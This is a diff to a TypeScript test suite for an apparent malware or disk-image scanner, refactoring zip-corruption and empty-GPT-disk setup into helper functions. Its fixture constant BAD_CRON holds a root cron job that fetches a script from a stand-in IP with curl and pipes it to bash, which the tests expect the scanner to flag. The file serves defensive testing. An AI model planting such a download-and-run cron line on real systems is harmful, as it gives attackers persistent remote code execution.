@@ -18,6 +18,7 @@ import { LoopDevices } from './helpers/lvm-image.js';
 import { containment, expectContained, expectSigtermLeavesNothing, scanTraced, type Containment, type Expected } from './helpers/contained-scan.js';
 import { gptWithEntries, hostnameExt4, lvmMetadataOverCap, overlappingPartitions, unknownFeatureDisk } from './helpers/hostile-volumes.js';
 import { XMR_WALLET } from './miners/elf-fixtures.js';
+import { damageCentralDirectory, emptyGptDisks } from './helpers/hostile-disks.js';
 
 const run = promisify(execFile);
 const BAD_CRON = '*/5 * * * * root curl -fsSL http://198.51.100.7/gi.sh | bash\n';
@@ -128,23 +129,13 @@ describe('container level', () => {
     await writeFile(path.join(dir, 'etc/cron.d/job'), BAD_CRON);
     const target = path.join(scratch, 'damaged.zip');
     await run('bash', ['-c', `cd ${dir} && zip -qr ${target} etc`]);
-    // The end record's offset of the central directory points past the file.
-    const bytes = await readFile(target);
-    bytes.writeUInt32LE(0x7fffff00, bytes.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1')) + 16);
-    await writeFile(target, bytes);
+    await damageCentralDirectory(target);
     await expectHostile(target, { reason: /zip central directory: .*entries were read from their local headers instead/, finding: 'command.download-and-run /etc/cron.d/job' });
   });
 
   it('a zip of 24 disk members holding nothing to scan fits a spool budget of about one member', async () => {
     const dir = path.join(scratch, 'zip-members');
-    await mkdir(dir, { recursive: true });
-    for (let i = 0; i < 24; i++) {
-      // A GPT disk (sgdisk) with no partition, its middle random so each spool costs 1.75 MiB.
-      const disk = path.join(dir, `disk${i}.img`);
-      await run('truncate', ['-s', '2M', disk]);
-      await run('dd', ['if=/dev/urandom', `of=${disk}`, 'bs=64K', 'seek=1', 'count=28', 'conv=notrunc', 'status=none']);
-      await run('sgdisk', ['-o', disk]);
-    }
+    await emptyGptDisks(dir, 24);
     const target = path.join(scratch, 'members.zip');
     await run('bash', ['-c', `cd ${dir} && zip -q ${target} *.img`]);
     const report = await expectHostile(target, { reason: /no partition table or filesystem found|no filesystem/ }, undefined, ['--spool-budget', '4M']);
